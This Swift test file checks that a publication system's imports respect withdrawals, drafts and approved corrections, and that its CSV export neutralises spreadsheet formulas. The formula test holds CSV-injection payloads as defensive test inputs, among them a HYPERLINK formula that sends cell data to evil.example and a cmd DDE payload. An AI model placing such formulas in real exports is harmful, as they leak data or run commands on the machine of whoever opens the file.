import Fluent
import Foundation
import ObservatoryCore
import SQLKit
import Testing
import Vapor

@testable import App

/// Review 3: an import (JSONL, CSV, WordPress) is no path to the public site. An old export re-imported after the
/// office withdrew a publication must not put it back; a file naming an office draft's id must not publish it; a
/// text changed through four eyes must not be replaced by the file's older text.
@Suite struct ImportHoldsOfficeTests {
    struct Row: Decodable { let status: String, body: String }
    static func row(_ id: String, _ db: any Database) async throws -> Row? {
        try await db.sql.raw("SELECT status, body FROM publications WHERE id = \(bind: id)").first(decoding: Row.self)
    }

    @Test(arguments: Engine.all)
    func anImportNeverRepublishesNorPublishesNorReplacesWhatTheOfficeHolds(_ engine: Engine) async throws {
        try await withApp(engine) { app in
            try await store(
                [
                    publication("imp-gone", body: "Old text naming Ms Wei."),
                    publication("imp-kept", body: "Text before the correction."),
                    publication("imp-plain")
                ], in: app)
            let jsonl = try await ExportTests.export(app, .publications, .jsonl)
            // The office withdraws one, corrects another through four eyes, and drafts a third with its own id.
            try await store([publication("imp-gone", body: "Old text naming Ms Wei.")], status: "draft", in: app)
            try await store([publication("imp-kept", body: "Corrected text.")], in: app)
            try await FourEyesStore.recordChange(
                EditorialFourEyes.subject("imp-kept"), hash: "h", by: "ed@x.org",
                now: Date(), on: app.db)
            try await store([publication("imp-draft", body: "DRAFT-CANARY not approved")], status: "draft", in: app)
            let draftLine = jsonl.split(separator: "\n").first { $0.contains("imp-plain") }!
                .replacingOccurrences(of: "imp-plain", with: "imp-draft")
            let summary = try await ArchiveImporter(db: app.db)
                .importFile(at: try temporaryFile(jsonl + "\n" + draftLine + "\n"))
            #expect(summary.rejected == 0)
            #expect(
                summary.held == 3 && summary.description.contains("held by the office (left unchanged) 3"),
                "the operator is told: \(summary)")
            #expect(try await Self.row("imp-gone", app.db)?.status == "draft", "a withdrawn text stays withdrawn")
            #expect(try await Self.row("imp-draft", app.db)?.status == "draft", "an office draft stays a draft")
            #expect(try await Self.row("imp-kept", app.db)?.body == "Corrected text.", "the approved text stays")
            #expect(try await Self.row("imp-plain", app.db)?.status == "published", "an imported text updates")
            #expect(try await app.get("/publications/imp-gone").status == .notFound)
            #expect(!(try await app.get("/publications/imp-draft").body.contains("DRAFT-CANARY")))
            // CSV takes the same rule.
            let csv = try await ExportTests.export(app, .publications, .csv)
                .replacingOccurrences(of: "imp-plain", with: "imp-gone")
            _ = try await CSVImporter(db: app.db).importFile(at: try temporaryFile(csv))
            #expect(try await Self.row("imp-gone", app.db)?.status == "draft")
        }
    }

    /// Review 3: `observatory export --format csv` wrote titles as typed, so "=HYPERLINK(…)" ran in the spreadsheet
    /// of whoever opened the export; now guarded with `'`, and the CSV import takes the guard off (exact round trip).
    @Test(arguments: Engine.all)
    func theCSVExportRunsNoFormulaAndStillRoundTrips(_ engine: Engine) async throws {
        let titles = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")", "+cmd|' /C calc'!A0", "@SUM(1)",
            "'=already quoted", "-2 days: update", "''+x", "Plain 'title'"
        ]
        var csv = ""
        try await withApp(engine) { app in
            try await store(titles.enumerated().map { publication("csv-\($0.offset)", title: $0.element) }, in: app)
            csv = try await ExportTests.export(app, .publications, .csv)
        }
        let cells = CSVText.parse(csv).dropFirst().flatMap { $0 }
        for cell in cells {
            #expect(
                !(cell.unicodeScalars.first.map { "=+-@\t\r".unicodeScalars.contains($0) } ?? false),
                "a cell a spreadsheet would run: \(cell)")
        }
        try await withApp(engine) { app in
            _ = try await CSVImporter(db: app.db).importFile(at: try temporaryFile(csv))
            for (index, title) in titles.enumerated() {
                #expect(try await PublicationQueries.find(id: "csv-\(index)", on: app.db)?.summary.title == title)
            }
        }
    }
}
